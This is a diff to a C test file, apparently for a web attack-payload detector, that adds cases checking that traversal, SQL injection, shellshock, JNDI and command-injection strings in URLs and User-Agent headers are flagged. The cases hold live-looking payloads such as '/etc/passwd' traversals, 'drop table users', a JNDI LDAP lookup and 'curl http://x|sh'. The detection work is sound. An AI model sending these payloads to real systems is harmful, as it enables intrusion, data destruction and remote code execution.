@@ -66,6 +66,18 @@ static const struct exit_case shell_cases[] = {
 };
 
 static const struct exit_case trav_cases[] = {
+	/* past payload_words.h's payload_words_trav_web (a web page's URL is not asked):
+	 * a '.' after the host's '/', ".." in the host, no '/' after the
+	 * host, "0x", one '/' after the scheme */
+	{"https://x.example/a/../../../etc/passwd", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
+	{"https://x.example/shell.txt?", 0, PAYLOAD_TRAVERSAL, 70,
+	 "remote file url ending in an empty query (remote include)"},
+	{"https://a.b/..;/admin", 0, PAYLOAD_TRAVERSAL, 80, "parent step with a path parameter (..;/)"},
+	{"https://a../../../etc/passwd", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
+	{"https://phpinfo.php", 0, PAYLOAD_TRAVERSAL, 50, "php diagnostics page as a file name"},
+	{"https://x.example/0x2e0x2e/0x2e0x2e/0x2e0x2e/etc/passwd", 0, PAYLOAD_TRAVERSAL, 95,
+	 "parent traversal to a sensitive file"},
+	{"http:/x.example/etc/passwd", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
 	/* the ".." walk runs only when c holds "..": here both are made
 	 * by canon from spellings (0x2e, overlong UTF-8) */
 	{"0x2e0x2e/0x2e0x2e/etc/passwd", 0, PAYLOAD_TRAVERSAL, 95, "parent traversal to a sensitive file"},
@@ -88,7 +100,7 @@ static const struct exit_case trav_cases[] = {
 	{".env", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
 	{"x/proc/12/cmdline", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
 	/* a value with no letter skips payload_trav_scan only without ".."
-	 * and each of / \\ NUL (trav_plain_number, payload.c): a number
+	 * and each of / \\ NUL (payload_words_trav_number, payload_words.h): a number
 	 * with one of them */
 	{"....", 0, PAYLOAD_TRAVERSAL, 80, "parent reference in an evasive spelling"},
 	{"1.2/../../../..", 0, PAYLOAD_TRAVERSAL, 85, "parent traversal past the root"},
@@ -262,7 +274,7 @@ static const struct exit_case wrap_cases[] = {
 	/* "@(1+2)" and "<%= 7*7 %>": the pairs "(@" and "<%" */
 	{"QCgxKzIp", 0, PAYLOAD_SSTI, 80, "template expression inside a base64 value"},
 	{"PCU9IDcqNyAlPg==", 0, PAYLOAD_SSTI, 80, "template expression inside a base64 value"},
-	/* "db.users.find()": data_words' ".db" set (told at 50: a mongo
+	/* "db.users.find()": payload_words_data's ".db" set (told at 50: a mongo
 	 * shell call alone is a how-to's quote, a kill only after a
 	 * statement break); "this.password.match(..)" */
 	{"ZGIudXNlcnMuZmluZCgp", 0, PAYLOAD_NOSQLI, 50, "query operator inside a base64 value"},
@@ -306,6 +318,45 @@ static const struct exit_case ua_cases[] = {
 	{"() { :;}; id", 0, PAYLOAD_SHELLSHOCK, 95, "bash function definition at value start"},
 	{"Mozilla/5.0 () { :;}; /bin/id", 0, PAYLOAD_CMDI, 90, "command after shell separator"},
 	{"Mozilla/5.0 ${jndi:ldap://x.example/a}", 0, PAYLOAD_JNDI, 95, "jndi lookup"},
+	/* past each condition of payload_sqli_gate.c's sqli_ua_quiet: a '('
+	 * after a word and one inside a group (U2) */
+	{"Mozilla/5.0 (compatible; benchmark(1e7,md5(1)))", 0, PAYLOAD_SQLI, 80, "time or file function call"},
+	{"Mozilla/5.0 (X11) AND (SELECT 1 FROM (SELECT SLEEP(5))x)", 0, PAYLOAD_SQLI, 90,
+	 "boolean with time or file function"},
+	/* a quote after a whole browser UA (U1) */
+	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' or '1'='1",
+	 0, PAYLOAD_SQLI, 90, "boolean tautology on literals"},
+	/* keywords alone, every byte and '(' of the grammar (U4) */
+	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36; drop table users", 0, PAYLOAD_SQLI, 85, "stacked query"},
+	{"Mozilla/5.0 (X11; rv:109.0) Gecko/1.0; drop table users", 0, PAYLOAD_SQLI, 85, "stacked query"},
+	/* trigger words that are no keyword (U4) */
+	{"Mozilla/5.0 (Windows NT 10.0; xp_cmdshell)", 0, PAYLOAD_SQLI, 85, "mssql procedure"},
+	{"Mozilla/5.0 (X11; mysql.user)", 0, PAYLOAD_SQLI, 80, "system catalog access"},
+	{"Mozilla/5.0 (X11; information_schema.tables)", 0, PAYLOAD_SQLI, 80, "system catalog access"},
+	/* past payload_shape.c's UA grammar (cmdi is not asked on it): a
+	 * byte out of G1 ('|', '$', '`', '&', NL, '{', quotes, '%') */
+	{"Mozilla/5.0 (X11; Linux) ;id", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 $(id)", 0, PAYLOAD_CMDI, 85, "command after shell separator"},
+	{"Mozilla/5.0 `id`", 0, PAYLOAD_CMDI, 85, "command after shell separator"},
+	{"Mozilla/5.0 (compatible; curl http://x|sh)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"() { :;}; /bin/id", 0, PAYLOAD_CMDI, 90, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux) & id", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux) <!--#exec cmd=\"x\"-->", 0, PAYLOAD_CMDI, 90, "ssi exec directive"},
+	/* every condition held but G4: one word that is no UA word (each row
+	 * is missed if its word joined payload_shape_ua_words[]) */
+	{"Mozilla/5.0 (X11; id)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; whoami)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (Windows NT 10.0; ipconfig)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; pwd)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux; ps aux)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux; sleep 5)", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 (system; id)", 0,
+	 PAYLOAD_CMDI, 80, "command after shell separator"},
+	/* payload_data_scan is not asked on the same grammar either: its
+	 * flags past G2 ("()"), G4 and G7 ('.' after a word) */
+	{"Mozilla/5.0 (X11; constructor.prototype.x)", 0, PAYLOAD_PROTO_POLLUTION, 85, "constructor.prototype as a property path"},
+	{"Mozilla/5.0 () { :;}; echo", 0, PAYLOAD_SHELLSHOCK, 85, "bash no-op function definition then a command"},
+	{"Mozilla/5.0 (X11; Linux) x; db.users.drop()", 0, PAYLOAD_NOSQLI, 50, "mongo shell call"},
 };
 
 static void test_ua_attacks_found(void **st)
